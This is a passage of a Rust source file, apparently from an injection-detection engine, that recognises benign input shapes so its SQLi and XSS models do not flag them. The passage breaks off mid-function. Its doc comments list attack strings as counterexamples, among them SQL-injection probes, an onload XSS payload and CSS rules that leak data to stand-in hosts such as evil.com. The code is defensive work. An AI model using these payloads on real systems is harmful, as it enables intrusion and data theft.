//! Whole values in a well-known data syntax, which the ML stage leaves to the grammars.
//!
//! The grammars read these values in full; a character model only sees their punctuation
//! (quotes, `;`, `=`, parentheses), which looks like code. Each shape admits no byte that
//! could leave the syntax: a member that is not plain data makes the whole value fall back
//! to the model.

/// Whether the whole value is data in one of the shapes below: a JSON document, a CSS
/// colour, a re-downloaded file's name, an `<option>` label, a structured-field list of
/// brands (`Sec-CH-UA`) or a list of `key=value` settings.
pub(crate) fn is_data(value: &str) -> bool {
    is_json_document(value)
        || plain_data_shape(value)
        || client_hint_list(value.as_bytes())
        || assignment_list(value.as_bytes())
}

/// The body of a value that is one Markdown fenced code block (`` ```js `` … `` ``` ``, or
/// `~~~`), which the ML stage judges in place of the whole value. The fences are Markdown,
/// not script or SQL: in a query a run of backticks is an empty identifier, which no dialect
/// accepts, and in a page the renderer turns the block into escaped text; what the block
/// holds is what might be code. A value with text after its closing fence, or a fence line
/// inside, is judged whole (the text outside the block is not code-quoted).
///
/// ```text
/// "```js\nlet x = 1;\n```"  -> Some("let x = 1;")
/// "```\n```\n<script>"      -> None
/// ```
pub(crate) fn fenced_code_body(value: &str) -> Option<&str> {
    let t = value.trim_ascii();
    let b = t.as_bytes();
    let fence = *b.first()?;
    if fence != b'`' && fence != b'~' {
        return None;
    }
    let n = b.iter().take_while(|&&c| c == fence).count();
    let open_end = memchr::memchr(b'\n', b)?;
    let close_start = memchr::memrchr(b'\n', b)?;
    // (a backtick fence's info string may not hold a backtick: ```` ```a``` ```` is inline code)
    if n < 3 || (fence == b'`' && b[n..open_end].contains(&fence)) {
        return None;
    }
    let is_fence_line = |line: &[u8]| {
        let line = line.trim_ascii();
        line.len() >= n && line.iter().all(|&c| c == fence)
    };
    if close_start == open_end || !is_fence_line(&b[close_start + 1..]) {
        return None;
    }
    let body = &t[open_end + 1..close_start];
    // (bounded by the value: one pass over the body's lines)
    if body.as_bytes().split(|&c| c == b'\n').any(is_fence_line) {
        return None;
    }
    Some(body)
}

/// Whether `value` is words and function calls on literal arguments, and nothing else:
/// `char(65)`, `max(1,2)`, `COUNT(*) vs COUNT(1)`, `mysql sleep() function`, `sleep(8)
/// hours?`. Nothing in it can leave a literal (no quote outside a call's arguments), and
/// no operator, comparison, separator or comment joins its parts, so in a query it is at
/// most one call whose name the SQL grammar has already judged (it flags `sleep(5)` and
/// `version()` alone), or a syntax error. A SQL keyword anywhere (`in (0,1)`, `values
/// (…)`, `select count(*)`, `1 and sleep(5)`) makes it SQL to judge. For the SQLi model,
/// which reads the parentheses and function names of such text as an attack's.
///
/// ```text
/// "count(*) vs count(1)" -> true      "1 and sleep(5)" -> false
/// "char(65)"             -> true      "concat(0x7e,version())" -> false
/// ```
pub(crate) fn calls_in_prose(value: &str) -> bool {
    let b = value.as_bytes();
    if b.len() > 256 || memchr::memchr(b'(', b).is_none() {
        return false;
    }
    let mut i = 0;
    let mut calls = 0;
    while i < b.len() {
        let c = b[i];
        if c.is_ascii_whitespace() || matches!(c, b'?' | b'!' | b'.' | b',' | b':') {
            i += 1;
        } else if c.is_ascii_alphanumeric() || c == b'_' {
            let end = b[i..]
                .iter()
                .position(|c| !(c.is_ascii_alphanumeric() || *c == b'_'))
                .map_or(b.len(), |n| i + n);
            // (ASCII bytes only, so `i..end` are character boundaries)
            // (and the clause words before a parenthesised list that the lexer reads as names)
            let word = &value[i..end];
            if crate::sqli::is_keyword(word)
                || ["values", "exists", "any", "all", "some", "using"]
                    .iter()
                    .any(|w| w.eq_ignore_ascii_case(word))
            {
                return false;
            }
            let open = end + b[end..].iter().take_while(|c| **c == b' ').count();
            let numeral = c.is_ascii_digit();
            i = end;
            if b.get(open) == Some(&b'(') {
                // (`2(3)`: a number before a parenthesis is math or SQL, not a call)
                if numeral {
                    return false;
                }
                match literal_arguments(&b[open + 1..]) {
                    Some(len) => i = open + 1 + len,
                    None => return false,
                }
                calls += 1;
            }
        } else {
            return false;
        }
    }
    calls > 0
}

/// Whether every quote in `value` sits inside a word, as an apostrophe or a password's
/// symbol does (`admin' ok`, `P@"ss'w0rd;--`, `a'b"c;d--`), and nothing else in it is SQL:
/// no keyword, no operator, comparison, parenthesis or escape. Each quote follows a
/// non-blank byte and is followed by a letter, digit or blank then a letter or digit, so
/// in the context the quote closes, the literal ends and a bare word follows it
/// (`'admin' ok'`, `'P@"ss' w0rd;`): two values side by side with no operator between
/// them, which no dialect reads as more than an alias, before a tail that leaves a literal
/// open or is a comment. A break-out needs an operator or a keyword after the quote
/// (`admin' or 'x`, `admin'--`, `x'|email--`), and a probe starts with its quote
/// (`'sqlvuln`); both stay the model's. For the SQLi model, which scores a quote glued to
/// symbols and `--` as a break-out without reading what follows it.
///
/// ```text
/// "P@\"ss'w0rd;--" -> true      "admin'--"    -> false
/// "admin' ok"         -> true      "admin' or 'x" -> false
/// ```
pub(crate) fn quotes_inside_words(value: &str) -> bool {
    let b = value.trim_ascii().as_bytes();
    if b.len() > 128 || b.iter().any(|&c| SQL_JOINS[usize::from(c)]) || has_sql_keyword(value) {
        return false;
    }
    let word = |c: u8| c.is_ascii_alphanumeric() || c == b'_';
    let mut quotes = 0;
    for (k, &c) in b.iter().enumerate() {
        if !matches!(c, b'\'' | b'"' | b'`') {
            continue;
        }
        quotes += 1;
        // (the trim leaves no blank at either end: a quote at the start opens a probe)
        let before = k.checked_sub(1).map(|i| b[i]);
        let after = match b.get(k + 1) {
            Some(b' ') => b.get(k + 2).copied(),
            next => next.copied(),
        };
        if !before.is_some_and(|c| !c.is_ascii_whitespace() && !matches!(c, b'\'' | b'"' | b'`'))
            || !after.is_some_and(word)
        {
            return false;
        }
    }
    quotes > 0
}

/// Whether each kind of quote in `value` first appears glued to the end of a word and is
/// followed by two plain words or numbers, neither a SQL keyword (`I'm 6' or 6'1"`: `'I' m
/// 6`), or, when it is the only one of its kind, ends the value. In the context that quote
/// closes, a literal followed by two bare names is a syntax error in every dialect and in
/// every position of a statement (one name after a literal can be an alias; a second one
/// cannot follow it), and a last quote leaves the application's own quote to open a literal
/// that never ends; bare, a word glued to a literal is no literal prefix (`N'…'`, `X'…'`
/// are left to the model). So no context runs the value, whatever follows the error. A
/// break-out needs an operator, a keyword or a comment right after its quote (`x' or 1=1`,
/// `admin'--`), a statement separator could start a second statement, and a comparison,
/// call or operator elsewhere (`foo' Eqv StrComp(…)`: Access reads `Eqv` as an operator)
/// or SQL before the first quote is SQL to judge: those stay the model's. For the SQLi model, which scores `' or 6'` as the start of a tautology.
pub(crate) fn quote_then_words(value: &str) -> bool {
    let b = value.trim_ascii().as_bytes();
    if b.len() > 128 || b.iter().any(|&c| QUOTE_WORDS_NOT[usize::from(c)]) {
        return false;
    }
    // (SQL before the first quote is SQL to judge: `or 4975==4975'`)
    let first_quote = b
        .iter()
        .position(|&c| c == b'\'' || c == b'"')
        .unwrap_or(b.len());
    if has_sql_keyword(&value.trim_ascii()[..first_quote]) {
        return false;
    }
    let token = |i: usize| -> usize {
        b[i..]
            .iter()
            .position(|c| !(c.is_ascii_alphanumeric() || *c == b'_'))
            .map_or(b.len(), |n| i + n)
    };
    let plain = |start: usize, end: usize| {
        // (ASCII bytes only: `start..end` are character boundaries)
        end > start && !crate::sqli::is_keyword(&value.trim_ascii()[start..end])
    };
    let mut kinds = 0;
    for q in [b'\'', b'"'] {
        let Some(k) = memchr::memchr(q, b) else {
            continue;
        };
        kinds += 1;
        // glued to a word that is no literal prefix (`N'`, `X'`, `B'`, `E'`, `U&'`)
        let word_start = b[..k]
            .iter()
            .rposition(|c| !c.is_ascii_alphanumeric())
            .map_or(0, |p| p + 1);
        if word_start == k || (k - word_start == 1 && b"NnXxBbEeUu".contains(&b[word_start])) {
            return false;
        }
        if k + 1 == b.len() && memchr::memchr(q, &b[..k]).is_none() {
            continue;
        }
        let mut i = k + 1;
        if b.get(i) == Some(&b' ') {
            i += 1;
        }
        let first = token(i);
        if !plain(i, first) || b.get(first) != Some(&b' ') {
            return false;
        }
        let second = token(first + 1);
        if !plain(first + 1, second) {
            return false;
        }
    }
    kinds > 0
}

/// Whether `value` is a sentence around a comparison (`either 1=1 or 2`, `or 1=1 meaning`,
/// `is 1=1 true?`): a plain word (no SQL keyword) stands right beside a number at the start
/// or the end (`either 1`, `1 meaning`), a literal word ends it right after a number (`is
/// 1=1 true`: a reserved word, no alias), or the value ends in a question mark glued to a word;
/// its only SQL words are connectives and the words of a condition (`or`, `and`, `not`,
/// `is`, `in`, `like`, `between`, `null`, `true`, `false`); and it has no quote, comment,
/// terminator, bracket, escape, variable or pipe. Without a quote it cannot leave a literal:
/// as the text of one it stays text, and bare it is a condition with words around it. A name
/// directly before a number, or one after the condition where the clause has ended, is a
/// syntax error wherever a condition stands (a `WHERE`, `ON`, `HAVING`, `CASE`), and `?` is
/// no operator after a word; what the grammar has read of it in each context is all there is.
/// For the SQLi model, which scores `1=1` and `or` without the words around them; a statement
/// with other keywords (`REAL 1 union select …`) stays the model's.
///
/// ```text
/// "either 1=1 or 2" -> true       "1 or 1=1"           -> false
/// "is 1=1 true?"    -> true       "id AND 1=1"         -> false
/// ```
pub(crate) fn comparison_in_prose(value: &str) -> bool {
    let b = value.trim_ascii().as_bytes();
    if b.len() > 128
        || b.iter().any(|&c| PROSE_COMPARISON_NOT[usize::from(c)])
        || memchr::memmem::find(b, b"--").is_some()
        || memchr::memmem::find(b, b"/*").is_some()
    {
        return false;
    }
    #[derive(Clone, Copy, PartialEq)]
    enum T {
        /// Letters only, two or more, no SQL keyword.
        Plain,
        Number,
        /// `true`, `false`, `null`, `unknown`: a literal, which no alias can be.
        Literal,
        /// A condition's keyword, another word, or punctuation.
        Other,
    }
    let mut toks = [T::Other; 3];
    let (mut first, mut n) = ([T::Other; 2], 0usize);
    let mut i = 0;
    while i < b.len() {
        let c = b[i];
        let (t, end) = if c.is_ascii_alphabetic() || c == b'_' {
            let end = b[i..]
                .iter()
                .position(|c| !(c.is_ascii_alphanumeric() || *c == b'_'))
                .map_or(b.len(), |k| i + k);
            let w = &value.trim_ascii()[i..end];
            let t = if crate::sqli::is_keyword(w) {
                if !CONDITION_WORDS.iter().any(|k| w.eq_ignore_ascii_case(k)) {
                    return false;
                }
                if ["true", "false", "null", "unknown"]
                    .iter()
                    .any(|k| w.eq_ignore_ascii_case(k))
                {
                    T::Literal
                } else {
                    T::Other
                }
            } else if end - i >= 2 && b[i..end].iter().all(u8::is_ascii_alphabetic) {
                T::Plain
            } else {
                T::Other
            };
            (t, end)
        } else if c.is_ascii_digit() {
            let end = b[i..]
                .iter()
                .position(|c| !(c.is_ascii_digit() || *c == b'.'))
                .map_or(b.len(), |k| i + k);
            (T::Number, end)
        } else if c.is_ascii_whitespace() {
            i += 1;
            continue;
        } else {
            (T::Other, i + 1)
        };
        if n < 2 {
            first[n] = t;
        }
        n += 1;
        toks = [toks[1], toks[2], t];
        i = end;
    }
    if n < 3 {
        return false;
    }
    let question = b.last() == Some(&b'?') && b[b.len() - 2].is_ascii_alphabetic();
    question
        || first == [T::Plain, T::Number]
        || matches!(toks[1..], [T::Number, T::Plain | T::Literal])
}

/// Whether `value` uses `**`, the power operator of Python, Fortran and computer algebra
/// (`Eq(9*a**2 - 8*b**2, -18)`, `x**2 - 4 = 0`), as SQL can only read it: as a syntax
/// error. No dialect's SQL has the operator (PostgreSQL lexes `**` as one operator that
/// does not exist; MySQL, SQLite, SQL Server and Oracle's SQL read `*` after `*` as a missing
/// operand), and with no quote or backtick the value opens no literal or quoted name, so
/// every context reads it bare, as code; with no `;` and no comment opener (`--`, `#`,
/// `/*`) nothing runs before the error or hides the `**` from the parser. A statement that
/// does not parse runs nothing, and its error message shows only the value. For the SQLi
/// model, which scores the operators and parentheses of formulas.
///
/// ```text
/// "Eq(9*a**2 - 8*b**2, -18)" -> true     "1/**/or/**/1=1" -> false
/// "x**2 - 4 = 0"              -> true     "2**3' or '1"    -> false
/// ```
pub(crate) fn power_operator(value: &str) -> bool {
    let b = value.as_bytes();
    b.iter().all(|&c| !NOT_POWER_FORMULA[usize::from(c)])
        && memchr::memmem::find(b, b"--").is_none()
        && memchr::memmem::find(b, b"/*").is_none()
        && memchr::memmem::find(b, b"**").is_some()
}

/// Bytes that open a literal, a quoted name or a comment, or end a statement (see
/// [`power_operator`]; `/*` and `--` are looked for as pairs).
static NOT_POWER_FORMULA: [bool; 256] = crate::byte_set(b"'\"`;#");

/// Whether `value` is a formula of propositional logic over one-letter variables (`not (p
/// and q) = (not p) or (not q)`, `(a or b) and c`, `p -> q`, `~p | q`): every word is a
/// single letter or a connective (`and`, `or`, `not`, `xor`, `nand`, `nor`, `implies`, `iff`,
/// `true`, `false`), and the rest is blanks, brackets and the symbols of operators
/// (`= ! ~ < > - | & ^`), with no comment marker. Without a quote, digit, `;`, `#` or comment, SQL
/// reads it only as a bare expression over one-letter columns, which no attacker can count
/// on (the grammar judges that reading): the model, which scores the connectives and
/// brackets, has nothing to add. Textbooks and homework write De Morgan's laws this way.
///
/// ```text
/// "not (p and q) = (not p) or (not q)" -> true     "1 or 1=1"  -> false
/// "(p or q) and r"                      -> true     "x' or 'a"  -> false
/// ```
pub(crate) fn propositional_logic(value: &str) -> bool {
    let b = value.trim_ascii().as_bytes();
    if b.len() > 256
        || !b.iter().all(|&c| LOGIC_FORMULA[usize::from(c)])
        || memchr::memmem::find(b, b"--").is_some()
    {
        return false;
    }
    let (mut variables, mut connectives) = (0usize, 0usize);
    for w in b
        .split(|c| !c.is_ascii_alphabetic())
        .filter(|w| !w.is_empty())
    {
        if w.len() == 1 {
            variables += 1;
        } else if LOGIC_CONNECTIVES
            .iter()
            .any(|k| w.eq_ignore_ascii_case(k.as_bytes()))
        {
            connectives += 1;
        } else {
            return false;
        }
    }
    let symbols = b
        .iter()
        .any(|c| matches!(c, b'|' | b'&' | b'^' | b'~' | b'>'));
    variables >= 2 && (connectives > 0 || symbols)
}

/// The words of a formula besides its variables (see [`propositional_logic`]).
const LOGIC_CONNECTIVES: [&str; 10] = [
    "and", "or", "not", "xor", "nand", "nor", "implies", "iff", "true", "false",
];

/// The bytes of a formula (see [`propositional_logic`]).
static LOGIC_FORMULA: [bool; 256] = {
    let mut t = crate::byte_set(b" \t()=!~<>-|&^");
    let mut c = 0;
    while c < 26 {
        t[b'a' as usize + c] = true;
        t[b'A' as usize + c] = true;
        c += 1;
    }
    t
};

/// Whether `value` is a run of C-family assignment statements of which at least one is a
/// compound assignment (`x >>= 2; y <<= 1;`, `total += n; i -= 1`): each statement a name,
/// an assignment operator (`=`, `+=`, `-=`, `*=`, `/=`, `%=`, `&=`, `|=`, `^=`, `<<=`,
/// `>>=`) and a number or a name, the statements ended by `;`. SQL has no compound
/// assignment (`<<=` and `>>=` are PostgreSQL's network containment, which compares two
/// addresses, never a name and a number), and without a quote, comment or call the value
/// can leave no literal; the `;` the model scores ends nothing but a line of code.
///
/// ```text
/// "x >>= 2; y <<= 1;" -> true      "1; drop table t" -> false
/// "x = 1; y = 2"      -> false (no compound operator: the grammar's and the model's)
/// ```
pub(crate) fn compound_assignments(value: &str) -> bool {
    let b = value.trim_ascii().as_bytes();
    if b.len() > 256 {
        return false;
    }
    let b = b.strip_suffix(b";").unwrap_or(b);
    let mut compound = false;
    for (n, stmt) in b.split(|&c| c == b';').enumerate() {
        if n >= 16 {
            return false;
        }
        let t = stmt.trim_ascii();
        let name_end = t
            .iter()
            .position(|c| !(c.is_ascii_alphanumeric() || *c == b'_'))
            .unwrap_or(t.len());
        if name_end == 0 || t[0].is_ascii_digit() {
            return false;
        }
        let rest = t[name_end..].trim_ascii_start();
        let Some(op_end) = [
            "<<=", ">>=", "+=", "-=", "*=", "/=", "%=", "&=", "|=", "^=", "=",
        ]
        .iter()
        .find(|op| rest.starts_with(op.as_bytes()))
        .map(|op| op.len()) else {
            return false;
        };
        compound |= op_end > 1;
        let operand = rest[op_end..].trim_ascii();
        let operand = operand.strip_prefix(b"-").unwrap_or(operand);
        if operand.is_empty()
            || !operand
                .iter()
                .all(|c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'.'))
        {
            return false;
        }
    }
    compound
}

/// The SQL keywords of a condition (see [`comparison_in_prose`]).
const CONDITION_WORDS: [&str; 12] = [
    "and", "or", "xor", "not", "is", "in", "like", "between", "null", "true", "false", "unknown",
];
/// Bytes that let a value leave a literal, end a statement, call, index or escape (see
/// [`comparison_in_prose`]).
static PROSE_COMPARISON_NOT: [bool; 256] = crate::byte_set(b"'\"`;#()[]{}\\@|&$:\n\r");

/// Whether every `<` in `value` opens an autolink to a web or mail address
/// (`See <https://example.com/a?b=c>`, `Write to <mailto:help@example.com>`) and the text
/// around them is plain: no other `<` or `>`, quote, backtick, bracket, brace, `=` or
/// escape. Markdown and mail readers write each autolink as a link to that address. Read as
/// HTML instead, it is an unknown element named after the scheme whose attributes are the
/// URL's pieces; with no blank, quote or parenthesis in the URL and no piece named like an
/// event handler or a style, none of them runs or shows anything. The text around them has
/// nothing that opens markup or a string, calls or assigns. For the XSS model, which reads
/// `<h…` and `b=c` as a tag and an attribute.
///
/// ```text
/// "See <https://example.com/a?b=c>" -> true    "<https://x/onmouseover=alert(1)>" -> false
/// ```
pub(crate) fn autolinks_in_prose(value: &str) -> bool {
    let b = value.as_bytes();
    if b.len() > 1024 {
        return false;
    }
    let mut links = 0;
    let mut i = 0;
    while i < b.len() {
        let c = b[i];
        if c != b'<' {
            if AUTOLINK_TEXT_NOT[usize::from(c)] {
                return false;
            }
            i += 1;
            continue;
        }
        let rest = &b[i + 1..];
        let scheme = [&b"https://"[..], b"http://", b"mailto:"]
            .into_iter()
            .find(|s| rest.len() > s.len() && rest[..s.len()].eq_ignore_ascii_case(s));
        let Some(scheme) = scheme else {
            return false;
        };
        let Some(end) = memchr::memchr(b'>', rest) else {
            return false;
        };
        let url = &rest[scheme.len()..end];
        if url.is_empty()
            || url.iter().any(|&c| AUTOLINK_URL_NOT[usize::from(c)])
            || handler_or_style_piece(url)
        {
            return false;
        }
        links += 1;
        i += 1 + end + 1;
    }
    links > 0
}

/// Whether `value` is an HTTP `Link` header's list (RFC 8288): `<URI-reference>` followed by
/// `;`-parameters, links separated by commas (`</app.js>; rel=preload; as=script,
/// <https://cdn.example/f.woff2>; rel=preload; as=font; crossorigin`). Read as HTML, a
/// reference that starts with `/` is an end tag (which carries no behaviour) and one that
/// starts with a scheme an unknown element whose attributes are the URL's pieces; the
/// parameters are text. Every `<` must open such a reference: a path (`/`, `.`, `?`, `#`)
/// or an http(s) URL with no blank, quote, parenthesis or brace and no piece named like an
/// event handler or a style, and every link must carry a parameter (what makes it a
/// header rather than a tag), whose value is a token or a quoted string without markup.
/// For the XSS model, which reads `</app.js>` as an end tag.
///
/// ```text
/// "</a.css>; rel=preload; as=style" -> true    "<svg/onload=alert(1)>; rel=x" -> false
/// ```
pub(crate) fn link_header(value: &str) -> bool {
    let b = value.as_bytes();
    if b.len() > 2048 {
        return false;
    }
    let skip = |i: usize| {
        i + b[i..]
            .iter()
            .take_while(|&&c| c == b' ' || c == b'\t')
            .count()
    };
    let mut i = skip(0);
    loop {
        // `<URI-reference>`
        if b.get(i) != Some(&b'<') {
            return false;
        }
        let rest = &b[i + 1..];
        let Some(end) = memchr::memchr(b'>', rest) else {
            return false;
        };
        let uri = &rest[..end];
        let web = [&b"https://"[..], b"http://"]
            .into_iter()
            .any(|s| uri.len() > s.len() && uri[..s.len()].eq_ignore_ascii_case(s));
        if !(web || matches!(uri.first(), Some(b'/' | b'.' | b'?' | b'#')))
            || uri.iter().any(|&c| AUTOLINK_URL_NOT[usize::from(c)])
            || handler_or_style_piece(uri)
        {
            return false;
        }
        i = skip(i + 1 + end + 1);
        // one or more `; name[=value]`
        let mut params = 0;
        while b.get(i) == Some(&b';') {
            i = skip(i + 1);
            let n = b[i..]
                .iter()
                .take_while(|&&c| LINK_TOKEN[usize::from(c)])
                .count();
            if n == 0 {
                return false;
            }
            i = skip(i + n);
            if b.get(i) == Some(&b'=') {
                i = skip(i + 1);
                if b.get(i) == Some(&b'"') {
                    let Some(q) = memchr::memchr(b'"', &b[i + 1..]) else {
                        return false;
                    };
                    if b[i + 1..i + 1 + q]
                        .iter()
                        .any(|&c| matches!(c, b'<' | b'>' | b'\\'))
                    {
                        return false;
                    }
                    i += 1 + q + 1;
                } else {
                    let n = b[i..]
                        .iter()
                        .take_while(|&&c| LINK_TOKEN[usize::from(c)])
                        .count();
                    if n == 0 {
                        return false;
                    }
                    i += n;
                }
                i = skip(i);
            }
            params += 1;
        }
        if params == 0 {
            return false;
        }
        match b.get(i) {
            None => return true,
            Some(b',') => i = skip(i + 1),
            Some(_) => return false,
        }
    }
}

/// Bytes of a `Link` parameter's name or token value (`rel`, `preload`, `font/woff2`,
/// `title*`): letters, digits and `-._~+*/:%` (see [`link_header`]).
static LINK_TOKEN: [bool; 256] = {
    let mut t = crate::byte_set(b"-._~+*/:%");
    let mut c = 0;
    while c < 256 {
        if (c as u8).is_ascii_alphanumeric() {
            t[c] = true;
        }
        c += 1;
    }
    t
};

/// Whether a piece of `url`, as the HTML tokenizer would split it into attributes (at `/`,
/// `?`, `&`, `#`, `;`), is named like an event handler (`on…`) or `style`.
fn handler_or_style_piece(url: &[u8]) -> bool {
    url.split(|&c| matches!(c, b'/' | b'?' | b'&' | b'#' | b';' | b'.'))
        .any(|piece| {
            let name = piece.split(|&c| c == b'=').next().unwrap_or(piece);
            (name.len() > 2 && name[..2].eq_ignore_ascii_case(b"on"))
                || name.eq_ignore_ascii_case(b"style")
        })
}

/// Bytes of the text around autolinks that reach markup, a string, a call or an
/// assignment (see [`autolinks_in_prose`]).
static AUTOLINK_TEXT_NOT: [bool; 256] = crate::byte_set(b">\"'`()[]{}=\\");
/// Bytes an autolink's URL may not hold: blanks and controls end it, quotes, parentheses
/// and angle brackets could start script or markup (see [`autolinks_in_prose`]).
static AUTOLINK_URL_NOT: [bool; 256] = {
    let mut t = crate::byte_set(b"<>\"'`(){}\\ \x7f");
    let mut c = 0;
    while c < 0x20 {
        t[c] = true;
        c += 1;
    }
    t
};

/// CSS functions of colours, sizes, fonts, gradients and transforms: none loads or runs
/// anything (see [`inert_css`]; `url(` is read on its own).
const CSS_VALUE_FUNCTIONS: [&[u8]; 20] = [
    b"rgb",
    b"rgba",
    b"hsl",
    b"hsla",
    b"calc",
    b"var",
    b"local",
    b"format",
    b"min",
    b"max",
    b"clamp",
    b"minmax",
    b"repeat",
    b"linear-gradient",
    b"radial-gradient",
    b"translate",
    b"translatex",
    b"translatey",
    b"rotate",
    b"scale",
];

/// Whether `value` is CSS declarations and nothing else, bare (`color: red; margin: 0`),
/// in a `style` attribute (`style="color:red"`) or in one `@font-face` rule: each declaration
/// a property name, `:` and a value of words, numbers, colours, quoted names and the
/// functions of [`CSS_VALUE_FUNCTIONS`], every `url(…)` a path on the site itself (no scheme,
/// no `//` host), and nothing the XSS grammar's CSS reading finds active
/// ([`crate::xss::css`]: `expression(`, `behavior`, `-moz-binding`, `javascript:`). Custom-CSS
/// fields and page builders post such values; the style they set loads nothing from
/// elsewhere and runs nothing. For the XSS model, which reads `url('` and `style="` as the
/// start of an injected attribute.
///
/// ```text
/// "style=\"color:red\""                      -> true
/// "background-image: url('/img/hero.jpg')"   -> true
/// "color:red;background:url(//evil.com/log)" -> false
/// ```
pub(crate) fn inert_css(value: &str) -> bool {
    let v = value.trim_ascii();
    if v.len() > 1024 {
        return false;
    }
    let mut b = v.as_bytes();
    // `style="…"` / `style='…'`
    if let Some(attribute) = crate::normalize::strip_prefix_ignore_case(b, b"style=") {
        match *attribute {
            [q @ (b'"' | b'\''), ref inner @ .., last] if last == q && !inner.contains(&q) => {
                b = inner;
            }
            _ => return false,
        }
    }
    // `@font-face { … }`
    if let Some(rest) = crate::normalize::strip_prefix_ignore_case(b, b"@font-face") {
        let rest = rest.trim_ascii();
        match rest {
            [b'{', inner @ .., b'}'] => b = inner,
            _ => return false,
        }
    }
    let mut declarations = 0;
    // (a `;` inside a `url(…)` is the URL's: `data:image/png;base64,…`)
    let mut depth = 0u8;
    for d in b.split(|&c| {
        match c {
            b'(' => depth = depth.saturating_add(1),
            b')' => depth = depth.saturating_sub(1),
            _ => {}
        }
        c == b';' && depth == 0
    }) {
        let d = d.trim_ascii();
        if d.is_empty() {
            continue;
        }
        let Some(colon) = memchr::memchr(b':', d) else {
            return false;
        };
        let name = d[..colon].trim_ascii();
        let name = name.strip_prefix(b"-").unwrap_or(name);
        if name.is_empty()
            || !name[0].is_ascii_alphabetic()
            || !name.iter().all(|&c| c.is_ascii_alphabetic() || c == b'-')
            || !inert_css_value(d[colon + 1..].trim_ascii())
        {
            return false;
        }
        declarations += 1;
    }
    // (`b` is ASCII here: every byte was checked, so the conversion cannot fail)
    declarations > 0 && std::str::from_utf8(b).is_ok_and(|css| !crate::xss::css::dangerous(css))
}

/// Whether a CSS declaration's value is words, numbers, colours, quoted names and the
/// functions [`inert_css`] accepts, with parentheses nested at most twice.
fn inert_css_value(v: &[u8]) -> bool {
    if v.is_empty() {
        return false;
    }
    let mut depth = 0u8;
    let mut i = 0;
    while i < v.len() {
        let c = v[i];
        match c {
            b'(' => {
                let name_start = v[..i]
                    .iter()
                    .rposition(|c| !(c.is_ascii_alphanumeric() || *c == b'-'))
                    .map_or(0, |p| p + 1);
                let name = &v[name_start..i];
                if name.eq_ignore_ascii_case(b"url") {
                    let Some(len) = site_url_argument(&v[i + 1..]) else {
                        return false;
                    };
                    i += 1 + len;
                    continue;
                }
                if depth == 2
                    || !CSS_VALUE_FUNCTIONS
                        .iter()
                        .any(|f| name.eq_ignore_ascii_case(f))
                {
                    return false;
                }
                depth += 1;
            }
            b')' => match depth.checked_sub(1) {
                Some(d) => depth = d,
                None => return false,
            },
            b'\'' | b'"' => {
                // a quoted font or family name
                let Some(end) = memchr::memchr(c, &v[i + 1..]) else {
                    return false;
                };
                if !v[i + 1..i + 1 + end]
                    .iter()
                    .all(|&c| c.is_ascii_alphanumeric() || matches!(c, b' ' | b'-' | b'_'))
                {
                    return false;
                }
                i += 1 + end + 1;
                continue;
            }
            c if c.is_ascii_alphanumeric()
                || matches!(
                    c,
                    b' ' | b'#' | b'%' | b'.' | b',' | b'-' | b'+' | b'!' | b'/' | b'*'
                ) => {}
            _ => return false,
        }
        i += 1;
    }
    depth == 0
}

/// The length of a `url(` argument up to and including its `)`, when it is a path on the
/// site itself, quoted or not: `/img/a.png`, `fonts/x.woff2`, `../a.png`; no scheme, no
/// `//` host, no blank, escape or parenthesis.
fn site_url_argument(b: &[u8]) -> Option<usize> {
    let (q, start) = match b.first()? {
        q @ (b'\'' | b'"') => (Some(*q), 1),
        _ => (None, 0),
    };
    let close = match q {
        Some(q) => start + memchr::memchr(q, &b[start..])?,
        None => memchr::memchr(b')', b)?,
    };
    let path = &b[start..close];
    let after = close + usize::from(q.is_some());
    // A raster image written inline (`data:image/png;base64,…`): a picture, no document,
    // so nothing in it runs (SVG, which can hold script, is not among them).
    if let Some(data) = RASTER_DATA_URLS
        .iter()
        .find_map(|p| crate::normalize::strip_prefix_ignore_case(path, p))
    {
        return (b.get(after) == Some(&b')')
            && !data.is_empty()
            && data
                .iter()
                .all(|&c| c.is_ascii_alphanumeric() || matches!(c, b'+' | b'/' | b'=')))
        .then_some(after + 1);
    }
    if path.is_empty()
        || path.starts_with(b"//")
        || b.get(after) != Some(&b')')
        || !path.iter().all(|&c| {
            c.is_ascii_alphanumeric()
                || matches!(
                    c,
                    b'/' | b'.' | b'-' | b'_' | b'?' | b'=' | b'&' | b'#' | b'%'
                )
        })
    {
        return None;
    }
    Some(after + 1)
}

/// Inline raster images a style may show (see [`site_url_argument`]).
const RASTER_DATA_URLS: [&[u8]; 5] = [
    b"data:image/png;base64,",
    b"data:image/gif;base64,",
    b"data:image/jpeg;base64,",
    b"data:image/jpg;base64,",
    b"data:image/webp;base64,",
];

/// Most attribute tests [`attribute_selector`] reads.
const MAX_SELECTOR_TESTS: usize = 8;

/// Whether `value` is a CSS selector by attributes and nothing else (`a[href^="https"]`,
/// `input[type=checkbox]`, `[data-id='7' i]`): an optional element name, then one or more
/// `[name]` or `[name op value]` tests, the value an identifier or a quoted string with no
/// markup, quote or escape in it. A selector only picks elements; without a rule body it
/// sets no property, loads nothing and runs nothing (the rule that leaks an attribute by
/// selector, `input[value^="a"]{background:url(//evil/a)}`, needs the `{…}` the XSS
/// grammar judges). For the XSS model, which reads `="https"]` as an attribute written
/// into markup.
pub(crate) fn attribute_selector(value: &str) -> bool {
    let b = value.trim_ascii().as_bytes();
    if b.len() > 256 {
        return false;
    }
    let ident = |c: u8| c.is_ascii_alphanumeric() || matches!(c, b'-' | b'_');
    let mut i = b.iter().position(|&c| !ident(c)).unwrap_or(b.len());
    if i > 0 && !b[0].is_ascii_alphabetic() {
        return false;
    }
    let mut tests = 0;
    while i < b.len() {
        if b[i] != b'[' || tests == MAX_SELECTOR_TESTS {
            return false;
        }
        let Some(close) = memchr::memchr(b']', &b[i..]) else {
            return false;
        };
        if !attribute_test(&b[i + 1..i + close]) {
            return false;
        }
        tests += 1;
        i += close + 1;
    }
    tests > 0
}

/// One `[…]` test of [`attribute_selector`], without its brackets.
fn attribute_test(t: &[u8]) -> bool {
    let ident = |c: u8| c.is_ascii_alphanumeric() || matches!(c, b'-' | b'_');
    let name_end = t.iter().position(|&c| !ident(c)).unwrap_or(t.len());
    if name_end == 0 || !(t[0].is_ascii_alphabetic() || t[0] == b'_' || t[0] == b'-') {
        return false;
    }
    let mut rest = &t[name_end..];
    if rest.is_empty() {
        return true;
    }
    if let [b'~' | b'|' | b'^' | b'$' | b'*', b'=', r @ ..] = rest {
        rest = r;
